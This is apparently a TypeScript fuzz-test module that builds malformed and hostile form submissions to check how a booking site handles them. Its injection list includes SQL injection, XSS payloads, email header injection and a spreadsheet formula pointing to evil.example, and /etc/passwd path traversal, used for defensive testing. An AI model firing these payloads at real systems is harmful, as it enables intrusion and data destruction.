// Malformed and hostile posts, made from a seed: what a broken client, a scanner or an attacker puts into a form.

/** A post of the site that is right, and what a test makes wrong of it. */
export interface RightPost {
	readonly target: string;
	readonly fields: URLSearchParams;
	readonly cookie: string;
	/** The fields of which none may be hostile without an answer that says so. */
	readonly decisive: readonly string[];
}

export interface HostilePost {
	readonly target: string;
	readonly body: Uint8Array<ArrayBuffer> | string;
	readonly headers: Readonly<Record<string, string>>;
	/** How it was made, for the message of a test that fails. */
	readonly made: string;
}

export type Random = () => number;

/** Mulberry32: the same numbers from 0 to 1 for the same seed. */
export function randomFrom(seed: number): Random {
	let state = seed >>> 0;
	return () => {
		state = (state + 0x6d2b79f5) >>> 0;
		let mixed = Math.imul(state ^ (state >>> 15), state | 1);
		mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
		return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
	};
}

function oneOf<T>(random: Random, all: readonly T[]): T {
	return all[Math.floor(random() * all.length)] as T;
}

/** Stands in every hostile text that could come through, to be looked for where it must not be. */
export const canary = "Zopilote";

const injections = [
	`${canary}'); DROP TABLE bookings; --`,
	`${canary}' OR '1'='1`,
	`${canary}<script>alert(1)</script>`,
	`"><img src=x onerror=alert('${canary}')>`,
	`${canary} {{phone}} {{constructor}} $t(nav.home) \${7*7} <%= 7*7 %> $& $1`,
	`${canary}\r\nBcc: ${canary}@evil.example\r\n\r\nX`,
	`${canary}%0d%0aSet-Cookie: a=b`,
	`=HYPERLINK("http://evil.example/${canary}")`,
	`{"time":"${canary}"}\n{"status":200}`,
	`../../../etc/passwd?${canary}#`,
	`//evil.example/${canary}`,
];
const oddities = [
	`${canary}\0${canary}`,
	`${canary}\u202Emoc.live\u2066\u2069`,
	"\u0000\u0001\u001b[2J\u007f\u0085\u2028\u2029",
	"Ω≈ç√∫˜µ≤≥÷ 田中さん ﷽ 👩‍👩‍👧‍👦",
	"Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
	"",
	" ",
	"null",
	"undefined",
	"[object Object]",
	"__proto__",
	"constructor",
	"true",
];
const numbers = ["-1", "0", "1e309", "NaN", "Infinity", "0x10", "9".repeat(400), "-0", "1.7976931348623157e308", "٣"];
const dates = [
	...["0000-00-00", "2027-02-30", "9999-12-31", "-271821-04-20", "+275760-09-13", "2027-13-01", "1/2/3", "T00:00Z"],
];
/** Codes with a right check that somebody else could have, and some without. */
const codes = ["KMRWXKM0", "00000000", "KMRWXK", "2R9420", "K".repeat(8), "KMRWXKM0'--"];

function hostileText(random: Random): string {
	const kind = Math.floor(random() * 8);
	if (kind < 3) return oneOf(random, injections);
	if (kind === 3) return oneOf(random, oddities);
	if (kind === 4) return oneOf(random, [...numbers, ...dates]);
	if (kind === 5) return oneOf(random, codes);
	if (kind === 6) return oneOf(random, ["A", "é", "👩", canary]).repeat(1 + Math.floor(random() ** 3 * 6000));
	return Array.from({ length: 12 }, () => String.fromCharCode(Math.floor(random() * 65536))).join("");
}

const form = "application/x-www-form-urlencoded";
const encoder = new TextEncoder();

type Kind = (right: RightPost, random: Random) => Pick<HostilePost, "body"> & { readonly type?: string };

/** Fields with at least one decisive value replaced, so that it cannot be what the site wants. */
function spoiled({ fields, decisive }: RightPost, random: Random): URLSearchParams {
	const spoilt = new URLSearchParams(fields);
	const certain = oneOf(random, decisive);
	for (const name of new Set([...fields.keys(), certain])) {
		if (name === certain || random() < 0.25) spoilt.set(name, hostileText(random).toWellFormed());
	}
	if (random() < 0.2) spoilt.delete(certain);
	return spoilt;
}

function multipart(fields: URLSearchParams, part: (name: string, value: string) => string, end = true): string {
	const parts = [...fields].map(([name, value]) => `--frontier\r\n${part(name, value)}\r\n`);
	return parts.join("") + (end ? "--frontier--\r\n" : "");
}
const text = (name: string, value: string) => `Content-Disposition: form-data; name="${name}"\r\n\r\n${value}`;
const file = (name: string, value: string) =>
	`Content-Disposition: form-data; name="${name}"; filename="${canary}.svg"\r\nContent-Type: image/svg+xml\r\n\r\n${value}`;
const inParts = "multipart/form-data; boundary=frontier";

/** By name; each makes something that no page's own form sends. */
const kinds: Readonly<Record<string, Kind>> = {
	hostileValues: (right, random) => ({ body: `${spoiled(right, random)}` }),
	moreHostileValues: (right, random) => ({ body: `${spoiled(right, random)}` }),
	hostileParts: (right, random) => ({ body: multipart(spoiled(right, random), text), type: inParts }),
	files: ({ fields }) => ({ body: multipart(fields, file), type: inParts }),
	wrongType: ({ fields }, random) => ({
		body: `${fields}`,
		type: oneOf(random, [
			"text/plain",
			"application/json",
			"application/xml",
			"image/png",
			"multipart/form-data",
			"*/*",
		]),
	}),
	noType: ({ fields }) => ({ body: encoder.encode(`${fields}`) }),
	json: ({ fields }) => ({ body: JSON.stringify(Object.fromEntries(fields)), type: "application/json" }),
	emptyBody: (_, random) => ({ body: "", type: oneOf(random, [form, inParts]) }),
	brokenParts: ({ fields }, random) => {
		const whole = multipart(fields, text, false);
		return { body: whole.slice(0, Math.floor(random() * whole.length)), type: inParts };
	},
	otherBoundary: ({ fields }) => ({ body: multipart(fields, text), type: "multipart/form-data; boundary=elsewhere" }),
	brokenPercents: (right, random) => ({
		body: `${spoiled(right, random)}&${oneOf(random, right.decisive)}=%&%E0%A4%A=%zz&=%00&&&==`.replace("%", "%%"),
	}),
	invalidUtf8: (right, random) => {
		const bytes = encoder.encode(`${spoiled(right, random)}&text=`);
		return { body: Uint8Array.from([...bytes, 0xc3, 0x28, 0xff, 0xfe, 0xed, 0xa0, 0x80, 0xf8]) };
	},
	loneSurrogates: (right, random) => ({ body: `${spoiled(right, random)}&name=%ED%A0%80&given=\uD800&x=%uD800` }),
	largeField: (right, random) => {
		const fields = spoiled(right, random);
		fields.set(oneOf(random, right.decisive), oneOf(random, ["x", " ", "-", "'"]).repeat(60_000));
		return { body: `${fields}`.slice(0, 65_000) };
	},
	tooLarge: ({ fields }) => ({ body: `${fields}&more=${"x".repeat(66_000)}` }),
	thousandsOfFields: (right, random) => ({
		body: `${spoiled(right, random)}&${Array.from({ length: 6_000 }, (_, at) => `f${at}=1`).join("&")}`,
	}),
	repeatedFields: (right, random) => {
		const once = spoiled(right, random);
		return { body: `${once}&${"token=x&token=y&how=free&booking=KMRWXKM0&".repeat(200)}${right.fields}` };
	},
	strangeNames: (right, random) => {
		const fields = spoiled(right, random);
		for (const name of ["__proto__", "constructor", "toString", "hasOwnProperty", "t1-__proto__", "a[b][c]", "\0"]) {
			fields.append(name, hostileText(random).toWellFormed());
		}
		return { body: `${fields}` };
	},
	garbage: (_, random) => ({
		body: Uint8Array.from({ length: Math.floor(random() * 4000) }, () => Math.floor(random() * 256)),
		type: oneOf(random, [form, inParts, "application/octet-stream"]),
	}),
	hostileCookies: (right, random) => ({ body: `${right.fields}&${oneOf(random, right.decisive)}=` }),
};
export const kindNames = Object.keys(kinds);

const hostileCookies = [
	...[
		"visitor=",
		"visitor=%",
		"trips=%E0%A4%A",
		`trips=${"KMRWXKM0.99999.".padEnd(79, "a")}`,
		"=",
		";;;=;",
		"lng=../..",
	],
	...[`visitor="${canary}"`, `trips=${"_".repeat(3000)}`, "__proto__=x; constructor=y", `consent=${canary}%00`],
];

/** The same seed gives the same posts, one after the other. */
export function hostilePost(right: RightPost, made: string, random: Random): HostilePost {
	const kind = kinds[made];
	if (!kind) throw new Error(`no kind ${made}`);
	const { body, type = typeof body === "string" || made === "invalidUtf8" ? form : undefined } = kind(right, random);
	const cookie = made === "hostileCookies" || random() < 0.1 ? oneOf(random, hostileCookies) : right.cookie;
	return {
		target: right.target,
		body,
		headers: { ...(type && { "Content-Type": type }), ...(cookie && { Cookie: cookie }) },
		made,
	};
}
